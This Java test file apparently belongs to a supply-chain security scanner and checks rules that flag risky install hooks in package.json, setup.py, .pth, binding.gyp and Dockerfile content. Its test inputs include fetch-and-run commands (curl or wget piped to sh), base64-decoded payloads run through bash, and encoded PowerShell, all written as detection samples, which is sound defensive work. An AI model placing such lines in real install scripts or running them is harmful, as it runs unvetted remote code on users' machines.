package dev.sigil.scanner.install;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sigil.core.json.Json;
import dev.sigil.core.scan.Finding;
import dev.sigil.scanner.MemoryTree;
import dev.sigil.scanner.Scans;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class InstallDetectorsTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -fsSL https://get.acme.dev/x | sh",
        "wget -qO- http://acme.dev/i | sudo bash",
        "bash -c \"$(curl https://acme.dev/i)\"",
        "echo aGk= | base64 -d | bash",
        "node -e \"eval(Buffer.from('YWJj', 'base64').toString())\"",
        "powershell -enc SQBFAFgA"
      })
  void hookThatRunsWhatItFetches_blocks(String command) {
    assertThat(Scans.rules("package.json", hook("postinstall", command)))
        .containsExactly("install/hook-runs-download");
  }

  @ParameterizedTest
  @CsvSource({
    "prepare, husky, install/build-hook",
    "prepare, npm run build, install/build-hook",
    "postinstall, patch-package && tsc -p ., install/build-hook",
    "postinstall, node scripts/setup.js, install/hook",
    "test, curl https://x | sh, ''"
  })
  void otherHook_isNamed(String hook, String command, String rule) {
    assertThat(String.join("", Scans.rules("package.json", hook(hook, command)))).isEqualTo(rule);
  }

  @Test
  void hookIsFollowedIntoItsScript() {
    String fetching =
        "const {execSync} = require('child_process'); https.get('https://x.dev', r => 1)";
    MemoryTree tree =
        MemoryTree.of("package.json", hook("postinstall", "node scripts/setup.js"))
            .with("scripts/setup.js", fetching);

    assertThat(Scans.scan(tree).findings())
        .extracting(Finding::rule)
        .containsExactly("install/hook-network");
  }

  @Test
  void hookNamesItsLine() {
    assertThat(Scans.find("package.json", "{\n \"scripts\": {\n  \"install\": \"node x\"\n }\n}"))
        .extracting(Finding::line)
        .containsExactly(3);
  }

  @Test
  void setupPy_isRead() {
    assertThat(Scans.rules("setup.py", "setup(name='x', cmdclass={'install': Evil})"))
        .containsExactly("install/setup-command");
    assertThat(Scans.rules("setup.py", "setup(name='x', cmdclass={'build_ext': Native})"))
        .isEmpty();
    assertThat(Scans.rules("setup.py", "import os\nos.system('./run')\nsetup(name='x')"))
        .containsExactly("install/setup-network");
    assertThat(Scans.rules("setup.py", "import os\nos.system('make')\nsetup(name='x')")).isEmpty();
    assertThat(Scans.rules("setup.py", "exec(base64.b64decode('eA=='))"))
        .containsExactlyInAnyOrder("install/hook-runs-download", "backdoor/decoded-code");
    assertThat(Scans.rules("setup.py", "from setuptools import setup\nsetup(name='x')")).isEmpty();
  }

  @Test
  void buildBackendInTree_warns() {
    assertThat(Scans.rules("pyproject.toml", "[build-system]\nbackend-path = ['.']"))
        .containsExactly("install/build-backend-in-tree");
    assertThat(Scans.rules("pyproject.toml", "[build-system]\nbuild-backend = 'hatchling'"))
        .isEmpty();
  }

  @Test
  void pthWithImport_blocks() {
    assertThat(Scans.rules("x.pth", "import os; os.system('id')"))
        .containsExactly("install/pth-code");
    assertThat(Scans.rules("x.pth", "../lib\n")).isEmpty();
  }

  @Test
  void bindingGyp_warns() {
    assertThat(Scans.rules("binding.gyp", "{'targets': []}"))
        .containsExactly("install/native-build");
    assertThat(Scans.rules("binding.gyp", "{'a': ['<!(id > /tmp/x)']}"))
        .contains("install/native-build-command");
    assertThat(
            Scans.rules(
                "binding.gyp", "{'a': ['<!(node -p \"require('node-addon-api').include\")']}"))
        .containsExactly("install/native-build");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "RUN curl -LsSf https://astral.sh/uv/install.sh | sh ~ install/image-runs-download",
        "RUN apt-get update && \\\\n  curl https://x.dev/i \\\\n  | bash - ~ install/image-runs-download",
        "RUN echo aGk= | base64 -d | sh ~ install/image-runs-decoded",
        "ADD https://x.dev/a.tgz /opt ~ install/image-adds-url",
        "ADD --checksum=sha256:00 https://x.dev/a.tgz /opt ~ ''",
        "RUN curl -o a.tgz https://x.dev/a.tgz && sha256sum -c a.sum ~ ''",
        "# RUN curl https://x.dev | sh ~ ''",
        "FROM python ~ install/image-floating-base",
        "FROM ghcr.io/a/b:latest AS build ~ install/image-floating-base",
        "FROM node:22 AS build\\nFROM build ~ ''",
        "FROM --platform=linux/amd64 a@sha256:00 ~ ''",
        "FROM ${BASE} ~ ''",
        "ARG NPM_TOKEN ~ ''",
        "ENV API_KEY=${API_KEY} TOKEN_FILE=/run/secrets/token ~ ''"
      })
  void dockerfile_isRead(String line, String rule) {
    String content = "FROM node:22\n" + line.replace("\\n", "\n") + "\n";

    assertThat(String.join("", Scans.rules("Dockerfile", content))).isEqualTo(rule);
  }

  @Test
  void secretInTheImage_warnsAndIsNotShown() {
    Finding finding =
        Scans.find("Dockerfile", "FROM node:22\nENV A=1 SIGNING_SECRET=kd83hgq0s1\n").stream()
            .filter(each -> each.rule().equals("install/image-holds-secret"))
            .findFirst()
            .orElseThrow();

    assertThat(finding.line()).isEqualTo(2);
    assertThat(finding.excerpt()).doesNotContain("kd83hgq0s1");
  }

  private static String hook(String name, String command) {
    return Json.write(Json.object().set("scripts", Json.object().put(name, command)));
  }
}
